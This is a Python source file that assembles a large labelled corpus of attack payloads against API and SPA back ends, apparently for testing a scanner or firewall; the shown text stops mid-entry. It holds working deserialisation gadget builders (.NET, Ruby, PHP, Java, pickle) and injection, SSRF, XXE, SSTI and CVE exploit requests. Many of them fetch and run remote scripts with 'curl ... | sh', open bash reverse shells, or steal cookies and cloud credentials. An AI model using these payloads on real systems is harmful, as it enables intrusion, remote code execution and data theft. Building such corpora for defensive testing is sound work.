"""Blind attack batch Q: modern API / SPA back-end attacks (GraphQL, NoSQL, SSRF, XXE, SSTI, deserialisation, JWT)."""
from __future__ import annotations

import base64
import hashlib
import hmac
import io
import json
import pickle
import struct
import subprocess
import zipfile

# --------------------------------------------------------------------------- helpers


def _j(obj) -> str:
    return json.dumps(obj, separators=(",", ":"), ensure_ascii=False)


def _gql(query: str, variables=None, op=None) -> str:
    body = {"query": query}
    if op:
        body["operationName"] = op
    if variables is not None:
        body["variables"] = variables
    return _j(body)


def _bytes_str(b: bytes) -> str:
    return b.decode("utf-8", "surrogateescape")


def _raw(method: str, path: str, headers: list[str], body: str = "", host: str = "api.example.com") -> str:
    lines = [f"{method} {path} HTTP/1.1", f"Host: {host}"] + headers
    if body or method in ("POST", "PUT", "PATCH"):
        lines.append(f"Content-Length: {len(body.encode('utf-8', 'surrogateescape'))}")
    return "\r\n".join(lines) + "\r\n\r\n" + body


def _multipart(path: str, field: str, filename: str, ctype: str, content: str, extra_headers=None) -> str:
    bnd = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
    body = (
        f"--{bnd}\r\n"
        f'Content-Disposition: form-data; name="{field}"; filename="{filename}"\r\n'
        f"Content-Type: {ctype}\r\n\r\n"
        f"{content}\r\n"
        f"--{bnd}--\r\n"
    )
    hdrs = [
        "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0",
        "Accept: application/json",
        f"Content-Type: multipart/form-data; boundary={bnd}",
    ] + (extra_headers or [])
    return _raw("POST", path, hdrs, body)


def _b64(b) -> str:
    if isinstance(b, str):
        b = b.encode("utf-8", "surrogateescape")
    return base64.b64encode(b).decode()


def _b64url(b) -> str:
    if isinstance(b, str):
        b = b.encode()
    return base64.urlsafe_b64encode(b).rstrip(b"=").decode()


def _jwt(header: dict, payload: dict, key: bytes | None = None, sig: str | None = None) -> str:
    h = _b64url(json.dumps(header, separators=(",", ":")))
    p = _b64url(json.dumps(payload, separators=(",", ":")))
    signing_input = f"{h}.{p}"
    if key is not None:
        s = _b64url(hmac.new(key, signing_input.encode(), hashlib.sha256).digest())
    elif sig is not None:
        s = sig
    else:
        s = ""
    return f"{signing_input}.{s}"


def _zip(files: list[tuple[str, str]]) -> str:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name, data in files:
            zi = zipfile.ZipInfo(name, date_time=(2024, 3, 1, 10, 0, 0))
            z.writestr(zi, data)
    return _bytes_str(buf.getvalue())


def _gopher_redis(cmds: list[list[str]]) -> str:
    resp = ""
    for cmd in cmds:
        resp += f"*{len(cmd)}\r\n"
        for arg in cmd:
            resp += f"${len(arg.encode())}\r\n{arg}\r\n"
    enc = "".join(c if c.isalnum() or c in "-._/" else "%{:02X}".format(ord(c)) for c in resp)
    return "gopher://127.0.0.1:6379/_" + enc


# .NET BinaryFormatter: TextFormattingRunProperties gadget (ysoserial.net layout)
def _lp(s: str) -> bytes:
    b = s.encode()
    n = len(b)
    out = b""
    while True:
        byte = n & 0x7F
        n >>= 7
        if n:
            out += bytes([byte | 0x80])
        else:
            out += bytes([byte])
            break
    return out + b


def _bf_textformatting(cmd: str) -> bytes:
    xaml = (
        '<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" '
        'xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml" '
        'xmlns:System="clr-namespace:System;assembly=mscorlib" '
        'xmlns:Diag="clr-namespace:System.Diagnostics;assembly=system">'
        '<ObjectDataProvider x:Key="LaunchCalc" ObjectType="{x:Type Diag:Process}" MethodName="Start">'
        "<ObjectDataProvider.MethodParameters><System:String>cmd</System:String>"
        f"<System:String>/c {cmd}</System:String>"
        "</ObjectDataProvider.MethodParameters></ObjectDataProvider></ResourceDictionary>"
    )
    out = b"\x00" + struct.pack("<iiii", 1, -1, 1, 0)
    out += b"\x0c" + struct.pack("<i", 2)
    out += _lp("Microsoft.PowerShell.Editor, Version=3.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35")
    out += b"\x05" + struct.pack("<i", 1)
    out += _lp("Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties")
    out += struct.pack("<i", 1) + _lp("ForegroundBrush") + b"\x01" + struct.pack("<i", 2)
    out += b"\x06" + struct.pack("<i", 3) + _lp(xaml)
    out += b"\x0b"
    return out


def _viewstate(cmd: str) -> str:
    bf = _bf_textformatting(cmd)
    n = len(bf)
    ln = b""
    while True:
        byte = n & 0x7F
        n >>= 7
        if n:
            ln += bytes([byte | 0x80])
        else:
            ln += bytes([byte])
            break
    return _b64(b"\xff\x01\x32" + ln + bf)


# Ruby Marshal: Gem::Requirement universal gadget (Ruby 2.x)
def _rm_int(n: int) -> bytes:
    if n == 0:
        return b"\x00"
    if 0 < n < 123:
        return bytes([n + 5])
    if n < 256:
        return b"\x01" + bytes([n])
    return b"\x02" + n.to_bytes(2, "little")


def _rm_sym(s: str) -> bytes:
    return b":" + _rm_int(len(s)) + s.encode()


def _rm_str(s: str) -> bytes:
    b = s.encode()
    return b'I"' + _rm_int(len(b)) + b + _rm_int(1) + _rm_sym("E") + b"T"


def _rm_obj(cls: str, ivars: list[tuple[str, bytes]]) -> bytes:
    return b"o" + _rm_sym(cls) + _rm_int(len(ivars)) + b"".join(_rm_sym("@" + k) + v for k, v in ivars)


def _rm_arr(items: list[bytes]) -> bytes:
    return b"[" + _rm_int(len(items)) + b"".join(items)


def _rm_cls(name: str) -> bytes:
    return b"c" + _rm_int(len(name)) + name.encode()


def _ruby_marshal_gadget(cmd: str) -> bytes:
    stub = _rm_obj("Gem::StubSpecification", [("loaded_from", _rm_str("|" + cmd + " 1>&2"))])
    sf = _rm_obj("Gem::Source::SpecificFile", [("spec", stub)])
    dl = _rm_obj("Gem::DependencyList", [("specs", _rm_arr([sf, sf])), ("development", b"F")])
    req = b"U" + _rm_sym("Gem::Requirement") + _rm_arr([dl])
    return b"\x04\x08" + _rm_arr([_rm_cls("Gem::SpecFetcher"), _rm_cls("Gem::Installer"), req])


# PHP serialize
def _ps(s: str) -> str:
    return f's:{len(s.encode())}:"{s}";'


def _po(cls: str, props: list[tuple[str, str]]) -> str:
    return f'O:{len(cls)}:"{cls}":{len(props)}:{{' + "".join(_ps(k) + v for k, v in props) + "}"


def _pa(items: list[tuple[str, str]]) -> str:
    return f"a:{len(items)}:{{" + "".join(k + v for k, v in items) + "}"


_LARAVEL_RCE = _po(
    "Illuminate\\Broadcasting\\PendingBroadcast",
    [
        ("\x00*\x00events", _po("Faker\\Generator", [("\x00*\x00formatters", _pa([(_ps("dispatch"), _ps("system"))]))])),
        ("\x00*\x00event", _ps("curl -s http://c2k4v9.oast.fun/l.sh | sh")),
    ],
)

_GUZZLE_FW1 = _po(
    "GuzzleHttp\\Cookie\\FileCookieJar",
    [
        ("\x00GuzzleHttp\\Cookie\\CookieJar\x00cookies", _pa([
            ("i:0;", _po("GuzzleHttp\\Cookie\\SetCookie", [
                ("\x00GuzzleHttp\\Cookie\\SetCookie\x00data", _pa([
                    (_ps("Expires"), "i:1;"),
                    (_ps("Discard"), "b:0;"),
                    (_ps("Value"), _ps("<?php system($_GET['c']); ?>")),
                ])),
            ])),
        ])),
        ("\x00GuzzleHttp\\Cookie\\CookieJar\x00strictMode", "N;"),
        ("\x00GuzzleHttp\\Cookie\\FileCookieJar\x00filename", _ps("/var/www/html/public/x.php")),
        ("\x00GuzzleHttp\\Cookie\\FileCookieJar\x00storeSessionCookies", "b:1;"),
    ],
)


# Java serialization: URLDNS (HashMap<URL,String>) probe
def _jutf(s: str) -> bytes:
    b = s.encode()
    return struct.pack(">H", len(b)) + b


def _jstr(s: str) -> bytes:
    return b"\x74" + _jutf(s)


def _java_urldns(host: str) -> bytes:
    url = f"http://{host}"
    out = b"\xac\xed\x00\x05"
    out += b"\x73\x72" + _jutf("java.util.HashMap") + bytes.fromhex("0507dac1c31660d1") + b"\x03" + struct.pack(">H", 2)
    out += b"F" + _jutf("loadFactor") + b"I" + _jutf("threshold") + b"\x78\x70"
    out += struct.pack(">fi", 0.75, 12)
    out += b"\x77\x08" + struct.pack(">ii", 16, 1)
    out += b"\x73\x72" + _jutf("java.net.URL") + bytes.fromhex("962537361afce472") + b"\x03" + struct.pack(">H", 7)
    out += b"I" + _jutf("hashCode") + b"I" + _jutf("port")
    for f in ("authority", "file", "host", "protocol", "ref"):
        out += b"L" + _jutf(f) + _jstr("Ljava/lang/String;")
    out += b"\x78\x70"
    out += struct.pack(">ii", -1, -1)
    out += _jstr(host) + _jstr("") + _jstr(host) + _jstr("http") + b"\x70"
    out += b"\x78"
    out += _jstr(url)
    out += b"\x78"
    return out


class _PickleRCE:
    def __reduce__(self):
        return (subprocess.check_output, (["sh", "-c", "curl -s http://c2k4v9.oast.fun/x | sh"],))


_PICKLE_P4 = pickle.dumps(_PickleRCE(), protocol=4)
_PICKLE_P0 = b"cposix\nsystem\n(Vbash -c 'bash -i >& /dev/tcp/203.0.113.45/4444 0>&1'\ntR."

_URLDNS = _java_urldns("jd0s9x.oast.fun")

_NODE_SERIALIZE = _b64(
    '{"username":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'curl http://c2k4v9.oast.fun/$(whoami)\', '
    'function(error, stdout, stderr){ console.log(stdout) });}()","country":"US","city":"Austin"}'
)

_JS_CHARCODES = ",".join(str(ord(c)) for c in "require('child_process').execSync('cat /etc/passwd').toString()")

_UTF16_XXE = _bytes_str(
    '<?xml version="1.0" encoding="UTF-16"?>\n'
    '<!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    "<order><id>1</id><note>&xxe;</note></order>".encode("utf-16")
)

_DOCX_XXE = _zip([
    ("[Content_Types].xml",
     '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
     '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
     '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
     '<Default Extension="xml" ContentType="application/xml"/>'
     '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
     'wordprocessingml.document.main+xml"/></Types>'),
    ("_rels/.rels",
     '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
     '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
     '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
     'officeDocument" Target="word/document.xml"/></Relationships>'),
    ("word/document.xml",
     '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
     '<!DOCTYPE w:document [<!ENTITY % remote SYSTEM "http://x7k2.oast.fun/docx.dtd"> %remote; %param1;]>\n'
     '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
     "<w:body><w:p><w:r><w:t>&exfil;</w:t></w:r></w:p></w:body></w:document>"),
])

_XLSX_XXE = _zip([
    ("[Content_Types].xml",
     '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
     '<!DOCTYPE Types [<!ENTITY xxe SYSTEM "http://x7k2.oast.fun/xlsx-ct">]>\n'
     '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
     '<Default Extension="xml" ContentType="application/xml"/>'
     '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
     'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/'
     'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>&xxe;</Types>'),
    ("xl/workbook.xml",
     '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
     '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets>'
     '<sheet name="Sheet1" sheetId="1"/></sheets></workbook>'),
    ("xl/sharedStrings.xml",
     '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
     '<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
     '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
     "<si><t>&xxe;</t></si></sst>"),
])

_SAML_XXE = _b64(
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<!DOCTYPE samlp:Response [<!ENTITY % dtd SYSTEM "http://saml.x7k2.oast.fun/s.dtd"> %dtd;]>'
    '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" '
    'xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_8e8dc5f69a98cc4c1ff3427e5ce34606fd672f91e6" '
    'Version="2.0" IssueInstant="2024-03-01T10:00:00Z" Destination="https://app.example.com/saml/acs">'
    "<saml:Issuer>https://idp.example.org/metadata</saml:Issuer>"
    '<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>'
    "<saml:Assertion><saml:Subject><saml:NameID>admin@example.com</saml:NameID></saml:Subject>"
    "</saml:Assertion></samlp:Response>"
)

_SAML_XSLT = _b64(
    '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_a1" Version="2.0" '
    'IssueInstant="2024-03-01T10:00:00Z"><ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#">'
    '<ds:SignedInfo><ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>'
    '<ds:SignatureMethod Algorithm="http://www.w3.org/2000/09/xmldsig#rsa-sha1"/><ds:Reference URI="#_a1">'
    '<ds:Transforms><ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116">'
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
    '<xsl:template match="doc"><xsl:variable name="file" select="unparsed-text(\'/etc/passwd\')"/>'
    '<xsl:variable name="escaped" select="encode-for-uri($file)"/>'
    '<xsl:variable name="attackerUrl" select="\'http://saml.x7k2.oast.fun/\'"/>'
    '<xsl:variable name="exploitUrl" select="concat($attackerUrl,$escaped)"/>'
    '<xsl:value-of select="unparsed-text($exploitUrl)"/></xsl:template></xsl:stylesheet>'
    "</ds:Transform></ds:Transforms><ds:DigestMethod Algorithm=\"http://www.w3.org/2000/09/xmldsig#sha1\"/>"
    "<ds:DigestValue>aGVsbG8=</ds:DigestValue></ds:Reference></ds:SignedInfo>"
    "<ds:SignatureValue>dGVzdA==</ds:SignatureValue></ds:Signature></samlp:Response>"
)

_FAKE_RS_SIG = "dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXkA7kV0dW3r2bPq8VJ0vFx9yQ1mX4cGm2fL3sD1pRkq0w"

_MVG_RCE = (
    "push graphic-context\n"
    "viewbox 0 0 640 480\n"
    "fill 'url(https://127.0.0.1/oops.jpg\"|curl -s \"http://c2k4v9.oast.fun/im)'\n"
    "pop graphic-context\n"
)

_MVG_SSRF = (
    "push graphic-context\n"
    "viewbox 0 0 640 480\n"
    "image over 0,0 0,0 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'\n"
    "pop graphic-context\n"
)

_S2_045 = (
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
    "(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
    "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
    "(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear())."
    "(#context.setMemberAccess(#dm)))).(#cmd='id')."
    "(#iswin=(@java.lang.System@getProperty('os.name').toLowerCase().contains('win')))."
    "(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd})).(#p=new java.lang.ProcessBuilder(#cmds))."
    "(#p.redirectErrorStream(true)).(#process=#p.start())."
    "(#ros=(@org.apache.struts2.ServletActionContext@getResponse().getOutputStream()))."
    "(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),#ros)).(#ros.flush())}"
)

_UA = "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0 Safari/537.36"

# --------------------------------------------------------------------------- entries

BLIND_ATTACKS_Q = [
    # --- GraphQL: SQL injection in arguments and variables ---
    ("sqli", "GraphQL inline argument boolean tautology", "json", "query",
     _gql("""query { user(id: "1' OR '1'='1") { id email role } }""")),
    ("sqli", "GraphQL variable UNION-based extraction", "json", "query",
     _gql("query Product($id: String!) { product(id: $id) { name price description } }",
          {"id": "0 UNION SELECT username, password, email FROM users--"}, "Product")),
    ("sqli", "GraphQL variable PostgreSQL stacked pg_sleep", "json", "query",
     _gql("query Order($ref: String) { order(reference: $ref) { status total } }",
          {"ref": "ORD-1001'; SELECT pg_sleep(10)--"})),
    ("sqli", "GraphQL filter input object SQLi", "json", "query",
     _gql("""query { posts(filter: {title_contains: "x') OR 1=1--", published: true}) { edges { node { id title } } } }""")),
    ("sqli", "GraphQL orderBy argument conditional error injection", "json", "query",
     _gql("query List($order: String) { invoices(first: 20, orderBy: $order) { id amount } }",
          {"order": "created_at,(SELECT CASE WHEN (SELECT substr(password,1,1) FROM users WHERE id=1)='a' THEN 1 ELSE 1/0 END)"})),
    ("sqli", "GraphQL mutation variable MSSQL WAITFOR", "json", "query",
     _gql("mutation Subscribe($email: String!) { newsletterSubscribe(email: $email) { ok } }",
          {"email": "a@b.co'; WAITFOR DELAY '0:0:7'--"})),
    ("sqli", "GraphQL variable MySQL extractvalue error-based", "json", "query",
     _gql("query Search($term: String!) { search(term: $term) { __typename ... on Article { title } } }",
          {"term": "x' AND extractvalue(1,concat(0x7e,(SELECT @@version),0x7e))-- -"})),
    ("sqli", "GraphQL GET query parameter login bypass", "query", "query",
     """{ user(username: "admin'--") { id apiKey } }"""),
    ("sqli", "GraphQL application/graphql body login mutation", "body:application/graphql", "graphql",
     """mutation { login(username: "admin' OR 1=1 LIMIT 1-- -", password: "irrelevant") { token } }"""),
    ("sqli", "GraphQL aliased batch time-based probes", "json", "query",
     _gql("""query { a: user(id: "1 AND SLEEP(5)") { id } b: user(id: "1 AND 1=1") { id } c: user(id: "1 AND 1=2") { id } }""")),
    ("sqli", "GraphQL over GET with JSON variables in query string", "path", "",
     """/graphql?query=query($id:ID!){node(id:$id){id}}&variables={"id":"1' or '1'='1'-- -"}"""),
    ("sqli", "GraphQL batched array request with SQLi in second operation", "json", "query",
     _j([{"query": "query { me { id } }"},
         {"query": "query($s:String){ products(search:$s){ id name } }",
          "variables": {"s": "%' AND 1=CAST((SELECT string_agg(table_name,',') FROM information_schema.tables) AS int)--"}}])),
    # --- GraphQL: NoSQL, SSRF, path traversal, command injection ---
    ("nosqli", "GraphQL JSON scalar variable with Mongo $ne", "json", "query",
     _gql("query Users($where: JSON) { users(where: $where) { id email passwordHash } }",
          {"where": {"password": {"$ne": None}}})),
    ("nosqli", "GraphQL login mutation $regex password probe", "json", "query",
     _gql("mutation Login($username: String!, $password: JSON!) { login(username: $username, password: $password) { token } }",
          {"username": "admin", "password": {"$regex": "^a"}}, "Login")),
    ("nosqli", "GraphQL string filter carrying $where JavaScript", "json", "query",
     _gql("""query { users(filter: "{\\"$where\\": \\"sleep(5000) || true\\"}") { id } }""")),
    ("ssrf", "GraphQL importAvatar mutation to AWS IMDS", "json", "query",
     _gql("""mutation { importAvatar(url: "http://169.254.169.254/latest/meta-data/iam/security-credentials/") { id url } }""")),
    ("ssrf", "GraphQL createWebhook variable gopher to Redis", "json", "query",
     _gql("mutation Hook($u: String!) { createWebhook(url: $u, events: [ORDER_CREATED]) { id } }",
          {"u": _gopher_redis([["SET", "x", "\n\n* * * * * curl -s http://203.0.113.45/s|sh\n\n"],
                               ["CONFIG", "SET", "dir", "/var/spool/cron/crontabs"],
                               ["CONFIG", "SET", "dbfilename", "root"], ["SAVE"]])})),
    ("ssrf", "GraphQL variable GCP metadata token URL", "json", "query",
     _gql("mutation($src: String!) { importProductsFromUrl(source: $src) { count } }",
          {"src": "http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token"})),
    ("ssrf", "DVGA importPaste host/path SSRF to local service", "json", "query",
     _gql("""mutation { importPaste(host: "127.0.0.1", port: 8500, path: "/v1/agent/self", scheme: "http") { result } }""")),
    ("ptrav", "GraphQL file field path traversal", "json", "query",
     _gql("""query { attachment(path: "../../../../../../etc/passwd") { content mimeType } }""")),
    ("ptrav", "GraphQL download variable encoded traversal", "json", "query",
     _gql("query Dl($name: String!) { exportFile(filename: $name) { base64 } }",
          {"name": "..%2f..%2f..%2f..%2fetc%2fshadow"})),
    ("rce", "DVGA importPaste path command injection", "json", "query",
     _gql("""mutation { importPaste(host: "localhost", port: 80, path: "/ ; cat /etc/passwd", scheme: "http") { result } }""")),
    ("rce", "GraphQL systemDiagnostics cmd argument", "json", "query",
     _gql("""query { systemDiagnostics(username: "admin", password: "changeme", cmd: "uname -a; id") }""")),
    ("xss", "GraphQL stored XSS via createPaste mutation", "json", "query",
     _gql("mutation($t: String!, $c: String!) { createPaste(title: $t, content: $c, public: true) { paste { id } } }",
          {"t": "<img src=x onerror=fetch('//c2k4v9.oast.fun/?c='+document.cookie)>", "c": "hello"})),
    ("ssti", "GraphQL profile bio Jinja2 payload", "json", "query",
     _gql("mutation($bio: String!) { updateProfile(input: {bio: $bio}) { bio } }",
          {"bio": "{{ cycler.__init__.__globals__.os.popen('id').read() }}"})),

    # --- deeply nested JSON bodies ---
    ("sqli", "JSON:API nested filter attribute SQLi", "json", "data",
     _j({"data": {"type": "customers", "attributes": {"filters": {"customer": {"name": "' OR 1=1 --"}}}}})),
    ("sqli", "nested order item option UNION injection", "json", "order",
     _j({"order": {"id": 8812, "items": [{"sku": "TSHIRT-01", "qty": 1,
         "options": {"color": "red' UNION SELECT NULL,table_name,NULL FROM information_schema.tables-- -"}}]}})),
    ("sqli", "deep boolean filter tree with time-based payload", "json", "filter",
     _j({"filter": {"and": [{"field": "tenant", "op": "eq", "value": 3},
                            {"or": [{"field": "status", "op": "eq",
                                     "value": "open' AND (SELECT 1 FROM (SELECT SLEEP(6))x)-- -"}]}]}})),
    ("sqli", "JSON unicode-escaped quotes evasion", "json", "filter",
     r'{"report":{"params":{"region":"EU\u0027 OR \u00271\u0027=\u00271\u0027-- "}}}'),
    ("sqli", "sort object key injected into ORDER BY", "json", "sort",
     _j({"query": {"page": 1, "sort": {"price) DESC; DROP TABLE audit_log;--": 1}}})),
    ("xss", "nested tracking referrer stored XSS", "json", "payload",
     _j({"event": "page_view", "payload": {"meta": {"tracking": {"referrer": "\"><svg/onload=import('//c2k4v9.oast.fun/x.js')>"}}}})),
    ("rce", "nested job spec args shell injection", "json", "job",
     _j({"job": {"name": "thumbnail", "spec": {"steps": [{"image": "worker:2.1", "args": ["--output", "/tmp/out.png;curl -s http://203.0.113.45/r.sh|bash"]}]}}})),
    ("ptrav", "nested locale traversal with null byte", "json", "request",
     _j({"request": {"context": {"user": {"prefs": {"locale": "../../../../../../etc/passwd\u0000"}}}}})),
    ("java", "Log4Shell in nested device fingerprint", "json", "device",
     _j({"session": {"device": {"fingerprint": {"ua": "${jndi:ldap://jd0s9x.oast.fun:1389/a}", "tz": "UTC"}}}})),
    ("ssrf", "nested integration endpoint IPv4-mapped IPv6 IMDS", "json", "integration",
     _j({"integration": {"type": "http", "config": {"endpoint": {"url": "http://[::ffff:a9fe:a9fe]/latest/meta-data/", "method": "GET"}}}})),
    ("ssti", "nested email template SpEL", "json", "notification",
     _j({"notification": {"channel": "email", "template": {"subject": "Hello ${T(java.lang.Runtime).getRuntime().exec('id')}", "body": "x"}}})),
    ("nosqli", "nested criteria operator injection", "json", "criteria",
     _j({"criteria": {"account": {"login": {"$ne": "x"}, "password": {"$ne": "x"}}}})),
    ("sqli", "array-of-arrays bulk update with stacked query", "json", "rows",
     _j({"sheet": {"rows": [["id", "qty"], ["17", "3; UPDATE users SET role='admin' WHERE email='me@evil.io'--"]]}})),

    # --- NoSQL: MongoDB operator injection ---
    ("nosqli", "Mongo login $ne bypass", "json", "login",
     _j({"username": "admin", "password": {"$ne": ""}})),
    ("nosqli", "Mongo login $regex + $gt", "json", "login",
     _j({"username": {"$regex": "^adm"}, "password": {"$gt": ""}})),
    ("nosqli", "Mongo $in / $nin user enumeration bypass", "json", "login",
     _j({"username": {"$in": ["admin", "administrator", "root", "superuser"]}, "password": {"$nin": [""]}})),
    ("nosqli", "qs bracket syntax $ne in form", "form", "password[$ne]", "invalid"),
    ("nosqli", "qs bracket syntax $regex in query", "query", "username[$regex]", "^a.*"),
    ("nosqli", "qs bracket syntax $exists in query", "query", "token[$exists]", "1"),
    ("nosqli", "Mongo $where sleep timing", "json", "search",
     _j({"username": "admin", "$where": "sleep(5000) || true"})),
    ("nosqli", "Mongo $where JS string break-out", "query", "name",
     "a'; while(true){}; var x='"),
    ("nosqli", "Mongo $where password char extraction", "form", "username",
     "admin' && this.password.match(/^s3/) || 'a'=='b"),
    ("nosqli", "Mongo $expr $function server JS", "json", "filter",
     _j({"filter": {"$expr": {"$function": {"body": "function(){ var d=new Date(); while(new Date()-d<5000){}; return true }", "args": [], "lang": "js"}}}})),
    ("nosqli", "Mongo aggregation $lookup to users collection", "json", "pipeline",
     _j({"pipeline": [{"$match": {"public": True}},
                      {"$lookup": {"from": "users", "localField": "ownerId", "foreignField": "_id", "as": "owner"}},
                      {"$project": {"owner.password": 1, "owner.resetToken": 1}}]})),
    ("nosqli", "Mongo $or always-true filter", "json", "filter",
     _j({"filter": {"$or": [{"role": "admin"}, {"_id": {"$exists": True}}]}})),
    ("nosqli", "password reset token $ne null", "json", "reset",
     _j({"email": "victim@example.com", "token": {"$ne": None}, "newPassword": "Pwn3d!2024"})),
    ("nosqli", "express cookie-parser j: JSON cookie operator", "cookie", "session",
     'j:{"userId":{"$ne":null}}'),
    # --- NoSQL: CouchDB, Elasticsearch, Firebase ---
    ("nosqli", "CouchDB CVE-2017-12635 duplicate roles admin creation", "raw", "",
     _raw("PUT", "/_users/org.couchdb.user:oops", [_UA, "Content-Type: application/json"],
          '{"type": "user", "name": "oops", "roles": ["_admin"], "roles": [], "password": "Passw0rd!"}',
          host="couch.example.com:5984")),
    ("rce", "CouchDB CVE-2017-12636 query_servers config", "raw", "",
     _raw("PUT", "/_node/_local/_config/query_servers/cmd",
          ["Authorization: Basic b29wczpQYXNzdzByZCE=", "Content-Type: application/json"],
          '"bash -c \'bash -i >& /dev/tcp/203.0.113.45/4444 0>&1\'"', host="couch.example.com:5984")),
    ("nosqli", "CouchDB Mango _find $regex dumping password hashes", "body:application/json", "_users/_find",
     _j({"selector": {"name": {"$regex": ".*"}, "password_scheme": {"$exists": True}},
         "fields": ["name", "derived_key", "salt", "roles"], "limit": 1000})),
    ("java", "Elasticsearch CVE-2014-3120 MVEL script_fields", "body:application/json", "_search",
     _j({"size": 1, "query": {"filtered": {"query": {"match_all": {}}}},
         "script_fields": {"cmd": {"script": "import java.io.*;new java.util.Scanner(Runtime.getRuntime().exec(\"id\").getInputStream()).useDelimiter(\"\\\\A\").next();"}}})),
    ("java", "Elasticsearch CVE-2015-1427 Groovy sandbox escape", "body:application/json", "_search",
     _j({"size": 1, "script_fields": {"lupin": {"lang": "groovy",
         "script": "java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"cat /etc/passwd\").getText()"}}})),
    ("java", "Elasticsearch GET source= dynamic script", "path", "",
     '/_search?source={"size":1,"script_fields":{"x":{"script":"java.lang.Runtime.getRuntime().exec(\\"id\\")"}}}'),
    ("nosqli", "Firebase RTDB rules overwrite with legacy secret", "raw", "",
     _raw("PUT", "/.settings/rules.json?auth=Zt9wQ2k8bX4mL1pR7sV3nY6cH0jD5fG2aE8uK4iO", ["Content-Type: application/json", _UA],
          _j({"rules": {".read": True, ".write": True}}), host="victim-app-default-rtdb.firebaseio.com")),
    ("nosqli", "Firebase open rules privilege write", "raw", "",
     _raw("PATCH", "/users/Hq3kT0v9sLcW2xYbN8mR.json", ["Content-Type: application/json", _UA],
          _j({"role": "admin", "plan": "enterprise", "isStaff": True}), host="victim-app-default-rtdb.firebaseio.com")),

    # --- SSRF: webhooks, URL import, metadata endpoints ---
    ("ssrf", "webhook URL to AWS IMDS credentials", "json", "hook",
     _j({"name": "deploy-hook", "url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "content_type": "json", "events": ["push"]})),
    ("ssrf", "callback URL to AWS IMDS IPv6 endpoint", "json", "callback_url",
     "http://[fd00:ec2::254]/latest/meta-data/"),
    ("ssrf", "import from URL file scheme", "form", "import_url", "file:///etc/passwd"),
    ("ssrf", "hex IP loopback Spring actuator", "json", "source",
     _j({"source": {"type": "url", "url": "http://0x7f000001:8080/actuator/env"}})),
    ("ssrf", "decimal IP loopback server-status", "query", "url", "http://2130706433/server-status"),
    ("ssrf", "wildcard DNS to IMDS", "json", "avatar_url", "http://169.254.169.254.nip.io/latest/meta-data/"),
    ("ssrf", "dict scheme to memcached", "query", "url", "dict://127.0.0.1:11211/stats"),
    ("ssrf", "Azure IMDS managed identity token", "json", "preview",
     _j({"url": "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"})),
    ("ssrf", "Kubernetes API secrets via fetcher", "form", "target",
     "https://kubernetes.default.svc.cluster.local/api/v1/namespaces/kube-system/secrets"),
    ("ssrf", "Docker socket API over TCP", "json", "link",
     _j({"link": {"href": "http://127.0.0.1:2375/containers/json?all=1", "title": "status"}})),
    ("ssrf", "userinfo @ confusion to loopback heapdump", "query", "url",
